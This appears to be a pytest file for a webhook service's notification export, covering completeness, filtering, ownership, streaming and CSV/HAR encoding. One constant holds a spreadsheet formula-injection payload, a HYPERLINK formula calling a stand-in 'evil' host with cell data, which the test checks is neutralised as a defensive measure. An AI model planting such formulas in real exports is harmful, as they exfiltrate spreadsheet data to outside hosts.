"""Exports: complete, correct in each format, one's own alone, and never held in memory."""

import asyncio
import base64
import csv
import io
import json
import os
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from srhooks.domain.clock import now_ms
from srhooks.domain.feed_filter import Filter
from srhooks.domain.models import NewNotification
from srhooks.web.http import answer_budget
from srhooks.web.http.answer_budget import MAX_IN_FLIGHT
from srhooks.web.http.errors import OverloadedError
from srhooks.web.pages import export as export_page
from srhooks.web.pages.export import _all, _chosen
from srhooks.web.state.app_keys import STORE

from tests.support.harness import DEADLINE, Browser, World, eventually

HOSTILE = '=HYPERLINK("http://evil/?"&A1,"click")'


async def store_some(world: World, browser: Browser, count: int, body: bytes) -> None:
    """Straight into the store: the intake has its own tests."""
    store = world.app[STORE]
    (user_id,) = await store.user_ids()
    new = [
        NewNotification(
            id=store.next_id(), user_id=user_id, hook_id="hook", subscription_id=None,
            event_id=None, event_name="job.created", event_version=None, link=None, headers="{}",
            body=body, signature="unsigned", sent_at=now_ms(), entity_status="none",
        )
        for _ in range(count)
    ]  # fmt: skip
    await asyncio.gather(*(store.add_notification(one) for one in new))


async def export(browser: Browser, query: str) -> tuple[str, Any]:
    async with browser.request("GET", f"/notifications/export?{query}") as answer:
        text = await answer.text("utf-8-sig" if "format=csv" in query else "utf-8")
        assert answer.status == 200, text
        return text, answer.headers


async def test_every_format_holds_each_notification_once(world: World) -> None:
    async with world.logged_in() as ada:
        await ada.subscribe("job.created")
        await store_some(world, ada, 450, b'{"id": "1"}')
        listed = [one["id"] for one in await ada.notifications("?limit=200")]
        text, headers = await export(ada, "format=ndjson")
        assert headers["Content-Disposition"].startswith('attachment; filename="srhooks-')
        rows = [json.loads(line) for line in text.splitlines()]
        ids = [row["id"] for row in rows]
        assert len(set(ids)) == 450
        assert ids[:200] == listed
        assert rows[0] == await ada.json("GET", f"/notifications/{ids[0]}")
        table = list(csv.DictReader(io.StringIO((await export(ada, "format=csv"))[0], newline="")))
        assert [row["id"] for row in table] == ids
        entries = json.loads((await export(ada, "format=har"))[0])["log"]["entries"]
        assert [one["comment"].split()[1].rstrip(",") for one in entries] == ids


async def test_a_filter_and_a_choice_limit_what_is_exported(world: World) -> None:
    async with world.logged_in() as ada:
        created = await ada.subscribe("job.created")
        for name in ("job.created", "job.updated", "offer.created"):
            await world.notify(created["hookId"], event_name=name)
        text, _ = await export(ada, "format=ndjson&event=job.")
        names = [json.loads(line)["eventName"] for line in text.splitlines()]
        assert names == ["job.updated", "job.created"]
        chosen = (await ada.notifications("?event=offer.created"))[0]["id"]
        text, _ = await export(ada, f"format=ndjson&id={chosen}&id=0000000000000")
        assert [json.loads(line)["id"] for line in text.splitlines()] == [chosen]
        text, _ = await export(ada, "format=har&q=nothing-like-it")
        assert json.loads(text)["log"]["entries"] == []


async def test_hostile_text_is_text_in_every_format(world: World) -> None:
    async with world.logged_in() as ada:
        created = await ada.subscribe("job.created")
        body = '+1,"two"\r\nthree 🐙'.encode()
        await world.notify(created["hookId"], body, event_name=HOSTILE)
        (row,) = csv.DictReader(io.StringIO((await export(ada, "format=csv"))[0], newline=""))
        assert row["eventName"] == "'" + HOSTILE
        assert row["body"] == "'" + '+1,"two"\r\nthree 🐙'
        (entry,) = json.loads((await export(ada, "format=har"))[0])["log"]["entries"]
        assert entry["request"]["postData"]["text"].startswith('+1,"two"\r\n')
        assert entry["request"]["url"].endswith(f"/hooks/{created['hookId']}")
        assert {"name": "event-name", "value": HOSTILE} in entry["request"]["headers"]


async def test_nobody_exports_what_is_not_theirs(world: World) -> None:
    async with world.logged_in() as ada, world.nobody() as nobody:
        created = await ada.subscribe("job.created")
        await world.notify(created["hookId"])
        (mine,) = await ada.notifications()
        async with world.logged_in("Grace") as grace:
            for query in ("format=ndjson", f"format=ndjson&id={mine['id']}"):
                assert (await export(grace, query))[0] == ""
        await nobody.json("GET", "/notifications/export?format=csv", status=401)


async def test_without_a_format_a_program_is_told_which_there_are(world: World) -> None:
    async with world.logged_in() as ada:
        error = (await ada.json("GET", "/notifications/export", status=400))["error"]
        assert error["message"] == "format must be one of ndjson, csv, har"
        assert "Download CSV" in await ada.page("/notifications/export")


async def test_a_body_that_is_no_text_is_base64_and_marked(world: World) -> None:
    binary = b"\x00\x01\xff"
    async with world.logged_in() as ada:
        created = await ada.subscribe("job.created")
        await world.notify(created["hookId"], binary)
        await world.notify(created["hookId"], "Müller".encode())
        text, _ = await export(ada, "format=csv")
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [(row["body"], row["bodyEncoding"]) for row in rows] == [
            ("Müller", ""), (base64.b64encode(binary).decode(), "base64"),
        ]  # fmt: skip
        entries = json.loads((await export(ada, "format=har"))[0])["log"]["entries"]
        posted = [entry["request"]["postData"] for entry in entries]
        assert "encoding" not in posted[0]
        assert posted[1]["encoding"] == "base64"
        assert base64.b64decode(posted[1]["text"]) == binary


async def test_spreadsheets_read_it_as_utf_8(world: World) -> None:
    async with (
        world.logged_in() as ada,
        ada.request("GET", "/notifications/export?format=csv") as answer,
    ):
        assert (await answer.read()).startswith(b'\xef\xbb\xbf"id",')


@pytest.mark.parametrize("query", ["format=xml", "format=csv&signature=odd", "format=csv&after=x"])
async def test_a_wrong_wish_is_a_400(world: World, query: str) -> None:
    async with world.logged_in() as ada:
        await ada.json("GET", f"/notifications/export?{query}", status=400)


@pytest.mark.slow
async def test_a_slow_reader_slows_the_reading(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with world.logged_in() as ada:
        await store_some(world, ada, 60, json.dumps("x" * 900_000).encode())
        written = 0
        writers: list[web.StreamResponse] = []
        write = web.StreamResponse.write

        async def counted(self: web.StreamResponse, data: Any) -> None:
            nonlocal written
            writers[:] = [self]
            await write(self, data)
            written += len(data)

        monkeypatch.setattr(web.StreamResponse, "write", counted)  # to look, not to change
        async with ada.session.get(f"{world.base}/notifications/export?format=ndjson") as answer:
            await answer.content.readany()
            seen = -1

            async def stands_still() -> bool:
                """Neither end takes more: we do not read, and the sockets between us are full."""
                nonlocal seen
                before, seen = seen, written
                ours, theirs = answer.connection, writers[0]._req
                assert ours is not None
                assert ours.transport is not None
                assert theirs is not None
                is_full = theirs.protocol.writing_paused and not ours.transport.is_reading()
                return bool(is_full and before == written)

            await eventually(stands_still)
            assert written < 30_000_000
            rest = await answer.content.read()
            assert rest.count(b"\n") > 30


async def test_an_export_that_fails_midway_is_seen_to_be_incomplete(world: World) -> None:
    async with world.logged_in() as ada:
        await store_some(world, ada, 60, json.dumps("x" * 900_000).encode())
        async with ada.session.get(f"{world.base}/notifications/export?format=ndjson") as answer:
            await answer.content.readany()
            for suffix in ("", "-wal"):  # the disk is gone under it
                os.truncate(world.settings.database_url.removeprefix("sqlite:///") + suffix, 0)
            with pytest.raises(aiohttp.ClientPayloadError):
                await answer.content.read()


async def test_one_that_has_begun_waits_longer_for_room(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(answer_budget, "ROOM_TIMEOUT", 0.05)
    answers = world.services.answers

    async def waits() -> bool:
        return bool(answers._waiting)

    async with world.logged_in() as ada:
        await store_some(world, ada, 60, json.dumps("x" * 900_000).encode())
        async with ada.session.get(f"{world.base}/notifications/export?format=ndjson") as answer:
            taking = asyncio.create_task(answers.reserve(MAX_IN_FLIGHT, DEADLINE))
            reading = asyncio.create_task(answer.content.read())
            taken = await taking
            await eventually(waits)
            with pytest.raises(OverloadedError):  # who comes later is told so before
                await answers.reserve()
            taken.release()
            assert (await reading).count(b"\n") == 60


async def test_the_page_says_how_many_and_offers_each_format(world: World) -> None:
    async with world.logged_in() as ada:
        created = await ada.subscribe("job.created")
        for name in ("job.created", "job.updated", "offer.created"):
            await world.notify(created["hookId"], event_name=name)
        page = await ada.page("/notifications/export?event=job.&signature=unsigned")
        assert "2 notifications" in page
        for name in ("ndjson", "csv", "har"):
            assert f"event=job.&amp;signature=unsigned&amp;format={name}" in page


async def test_pieces_are_bounded_in_bytes_and_hold_everything(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_page, "PIECE_BYTES", 200_000)
    async with world.logged_in() as ada:
        await store_some(world, ada, 40, b"{" + b" " * 50_000 + b"}")
        await store_some(world, ada, 300, b"{}")
        store = world.services.store
        (user_id,) = await store.user_ids()
        for wanted in (Filter(), Filter(signature="unsigned", events=("job.",))):
            pieces = [piece async for piece in _all(store, user_id, wanted)]
            assert max(sum(len(n.body) for n in piece) for piece in pieces) < 300_000
            ids = [n.id for piece in pieces for n in piece]
            assert ids == sorted(set(ids), reverse=True)
            assert len(ids) == 340
        pieces = [piece async for piece in _chosen(store, user_id, ids)]
        assert max(sum(len(n.body) for n in piece) for piece in pieces) < 300_000
        assert [n.id for piece in pieces for n in piece] == ids
